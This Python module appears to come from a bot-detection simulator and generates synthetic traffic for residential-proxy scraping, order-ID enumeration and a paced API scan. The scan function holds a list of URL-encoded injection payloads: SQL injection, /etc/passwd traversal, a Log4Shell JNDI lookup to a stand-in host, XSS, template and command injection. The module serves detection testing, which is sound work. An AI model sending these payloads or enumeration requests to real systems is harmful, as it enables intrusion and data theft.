"""Attacks on what there is to read, by those who take care not to look like it."""

from __future__ import annotations

from typing import Final

import numpy as np

from floodwarden.simulate.declare import Strength, family
from floodwarden.simulate.scene import Rows, Scene, Seconds
from floodwarden.simulate.world import ITEMS, Ints

_ROOTS: Final = ("api/v2", "api/internal", "api/admin", "v1", "rest", "backend", "service", "gateway")
_LEAVES: Final = (
    "users", "config", "health/details", "export", "swagger.json", "openapi.yaml", "graphql", "metrics", "env",
    "debug/vars", "heapdump", "logs", "backup", "tokens", "webhooks", "jobs", "settings", "users/1", "version", "trace",
)  # fmt: skip
_PAYLOADS: Final = (
    "%27%20OR%201%3D1--", "..%2f..%2fetc%2fpasswd", "%24%7Bjndi%3Aldap%3A%2F%2Fcb.example%2Fa%7D",
    "%3Cscript%3E1%3C%2Fscript%3E", "%7B%7B7*7%7D%7D", "%3Bid", "1%20UNION%20SELECT%20null", "%2500",
)  # fmt: skip


def held(scene: Scene, how: Strength, network: str = "bot") -> tuple[Seconds, Ints]:
    """Times and addresses of a gang that holds each address for an eighth of the time, some requests of each."""
    n = max(how.sources, int(how.sources * how.per_s * how.lasts_s))
    first_s = scene.rng.uniform(0, how.lasts_s * 0.875, how.sources)
    who = np.sort(np.concatenate([np.arange(how.sources), scene.rng.integers(0, how.sources, n - how.sources)]))
    at_s = first_s[who] + scene.rng.uniform(0, how.lasts_s * 0.125, n)
    return at_s, scene.addresses(how.sources, network)[who]


@family(
    oat="OAT-011", weak=Strength(800, 0.05, 3000), medium=Strength(1500, 0.3, 1500), strong=Strength(2000, 0.9, 480)
)
def residential_scraping(scene: Scene, how: Strength) -> Rows:
    """The catalogue in no order, each item once, through homes worldwide that are held for minutes and then given up.

    Each address has 2 to 8 requests, half of the items' reviews are read as well, one in six requests is a script of
    the page, as a headless browser loads it. Nobody asks for what is popular more often than for the rest.

    Source: Cloudflare, "Using machine learning to detect bot attacks that leverage residential proxies", 2024-06-24;
    OWASP Automated Threat Handbook 1.2, OAT-011, 2018-02-15.
    """
    at_s, ip = held(scene, how)
    n = len(at_s)
    ua = scene.browser(ip)
    item = np.resize(scene.rng.permutation(ITEMS), n)
    kind = scene.rng.choice(3, n, p=[0.55, 0.28, 0.17])
    status = scene.mostly(n, 200, 404, 0.003)
    made = scene.requests(at_s, "item", path=scene.world.items[item], ip=ip, ua=ua, status=status)
    reviews = scene.requests(at_s, "reviews", path=scene.world.reviews[item], ip=ip, ua=ua)
    scripts = scene.requests(at_s, "static", path=scene.by_turns(scene.world.statics, n), ip=ip, ua=ua)
    made[kind == 1], made[kind == 2] = reviews[kind == 1], scripts[kind == 2]
    return made


@family(weak=Strength(1, 4, 2400), medium=Strength(1, 45, 900), strong=Strength(2, 55, 600))
def order_enumeration(scene: Scene, how: Strength) -> Rows:
    """A customer's own key asks for the orders of one customer after the other, and gets most of them.

    An employee on the way out, or a customer who saw that the number can be changed (broken object-level
    authorisation): from a rented machine, numbers in blocks of fifty in no order, below the key's limit. Six in ten
    are given, three are of no customer (404), one is refused (403).

    Source: OWASP API Security Top 10, API1:2023, 2023-06; T-Mobile US, Form 8-K of 2023-01-19: one API, read from
    2022-11-25 to 2023-01-05, 37 million customers.
    """
    at_s = scene.steady(how.sources * how.per_s, how.lasts_s, shape=1.5)
    n = len(at_s)
    block = np.arange(n) // 50 * 50
    number = 40_000 + int(scene.rng.integers(5000)) + block + scene.rng.permutation(n) % 50
    drawn = scene.rng.random(n)
    return scene.requests(
        at_s,
        "api_orders",
        path=[f"/api/v1/orders?customer={customer}" for customer in number.tolist()],
        ip=scene.by_turns(scene.addresses(how.sources, "hosting"), n),
        key=scene.key(f"key-app-{scene.rng.integers(40):02d}"),
        status=np.select([drawn < 0.6, drawn < 0.9], [200, 404], 403),
        ua=scene.tool("python-requests/2.31.0"),
    )


@family(oat="OAT-014", weak=Strength(6, 0.5, 3000), medium=Strength(12, 2, 1800), strong=Strength(12, 10, 900))
def paced_scan(scene: Scene, how: Strength) -> Rows:
    """Weak spots of an API sought by a few addresses that take their time, with ordinary pages in between.

    A third of the requests are pages that are there (a scanner walks the site first), a half are names an API might
    have left open (404, 401, 403), a sixth put an injection into the search (200, 400, now and then 500). An address
    waits 6 to 120 seconds: CrowdSec's scenario asks for ten distinct misses that leak one in ten seconds.

    Source: OWASP Automated Threat Handbook 1.2, OAT-014, 2018-02-15; CrowdSec hub, scenario
    crowdsecurity/http-probing (capacity 10, leak 10 s), read 2026-11.
    """
    n = max(12, int(how.sources * how.per_s * how.lasts_s))
    at_s = scene.scattered(n, how.lasts_s)
    ip = scene.by_turns(scene.addresses(how.sources, "hosting"), n)
    ua, drawn = scene.browser(ip), scene.rng.random(n)
    names = [f"/{root}/{leaf}" for leaf in _LEAVES for root in _ROOTS]
    names += [
        f"/{root}/{leaf}.{number}" for number in range(n // len(names) + 1) for leaf in _LEAVES for root in _ROOTS
    ]
    answer = scene.rng.choice([404, 401, 403], n, p=[0.8, 0.08, 0.12])
    made = scene.requests(at_s, "missing", path=names[:n], ip=ip, ua=ua, status=answer)
    attempts = [f"/search?q={_PAYLOADS[number % len(_PAYLOADS)]}&n={number}" for number in range(n)]
    told = scene.rng.choice([200, 400, 500], n, p=[0.7, 0.25, 0.05])
    injected = scene.requests(at_s, "search", path=attempts, ip=ip, ua=ua, status=told)
    pages = scene.requests(at_s, "list", path=scene.by_turns(scene.world.lists, n), ip=ip, ua=ua)
    made[drawn < 0.5], made[drawn < 0.33] = injected[drawn < 0.5], pages[drawn < 0.33]
    return made
